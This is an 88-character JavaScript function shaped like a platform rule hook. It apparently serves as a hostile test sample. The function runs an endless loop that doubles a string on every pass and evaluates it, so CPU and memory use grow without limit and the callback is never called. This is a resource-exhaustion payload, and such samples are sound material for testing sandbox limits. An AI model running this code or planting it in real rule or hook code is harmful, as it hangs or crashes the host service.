function pipe(user, context, callback) {
  for (let s = '0'; ; s += '+' + s) eval(s);
}
